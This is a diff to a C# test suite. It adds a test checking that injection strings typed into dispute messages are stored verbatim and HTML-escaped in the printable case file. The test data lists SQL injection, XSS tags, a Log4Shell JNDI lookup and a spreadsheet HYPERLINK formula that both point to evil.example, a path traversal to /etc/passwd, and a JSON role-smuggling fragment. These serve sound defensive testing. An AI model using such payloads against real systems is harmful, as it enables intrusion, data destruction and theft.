@@ -1,3 +1,4 @@
+using System.Net.Http.Json;
 using Xunit.Abstractions;
 using Xunit.Sdk;
 
@@ -33,6 +34,28 @@ public sealed class HostileCatalogueTests(HostileFixture fixture, ITestOutputHel
         foreach (var (key, before) in fixture.Before)
             if (after[key] != before) failures.Add($"{key} changed:\n  before: {before}\n  after:  {after[key]}");
         Assert.True(failures.Count == 0, $"{failures.Count} failures:\n" + string.Join("\n", failures));
+    }
+
+    /// <summary>Injection in text is not refused — a consumer may well type it — but stored as typed and never run.</summary>
+    [Fact]
+    public async Task Injection_strings_in_text_are_stored_as_typed_and_escaped_in_the_printable_case_file()
+    {
+        string[] texts =
+        [
+            "'; DROP TABLE disputes; --", "<script>alert(1)</script>", "{0} {1:x} %s %n", "${jndi:ldap://evil.example/a}",
+            "<img src=x onerror=alert(1)>", "\"},{\"role\":\"ops", "../../etc/passwd", "=HYPERLINK(\"http://evil.example\")",
+        ];
+        var s = await Scenario.PaidOrderAsync(fixture.Factory.As);
+        var dispute = await s.OpenDisputeAsync();
+        foreach (var text in texts)
+            Assert.Equal(text, (await Scenario.EventAsync(await s.Consumer.PostAsJsonAsync($"/api/disputes/{dispute.DisputeId}/messages", new { text }))).Text);
+
+        var timeline = await s.TimelineAsync(dispute.DisputeId);
+        Assert.Equal(texts, timeline.Where(e => e.Type == DisputeEventType.Message).Select(e => e.Text));
+        var page = await s.Consumer.GetStringAsync($"/api/disputes/{dispute.DisputeId}/case-file?format=html");
+        Assert.DoesNotContain("<script>alert", page);
+        Assert.DoesNotContain("<img src=x", page);
+        Assert.Contains("&lt;script&gt;alert(1)&lt;/script&gt;", page);
     }
 
     [Fact]
